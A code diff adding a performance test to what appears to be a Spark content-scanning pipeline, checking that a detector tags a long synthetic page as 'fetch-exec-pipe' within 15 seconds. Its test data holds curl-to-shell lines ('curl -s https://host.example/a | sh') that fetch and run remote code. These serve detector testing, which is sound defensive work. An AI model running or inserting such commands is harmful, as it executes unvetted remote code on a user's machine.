@@ -104,3 +104,15 @@ def test_queries_have_hits(spark, sf, name):
     from tamis.plans.directives import ORACLE, QUERIES
 
     assert same(spark, connect(sf), sf, QUERIES[name], ORACLE[name]) > 0
+
+
+def test_work_of_windows_does_not_grow_with_the_square_of_a_text(spark):
+    import time
+
+    # the blocks of a text are cut once, not again for every window of it
+    text = ("nothing to see on this line of a long page\n" * 25 + "curl -s https://host.example/a | sh\n") * 1500
+    spark.range(1).selectExpr("'curl https://h.example/a | sh' as text", "id as doc_id").transform(di.content_capabilities).collect()
+    began = time.time()
+    rows = di.content_capabilities(docs(spark, [text])).collect()
+    assert {r.capability for r in rows} == {"fetch-exec-pipe"}
+    assert time.time() - began < 15
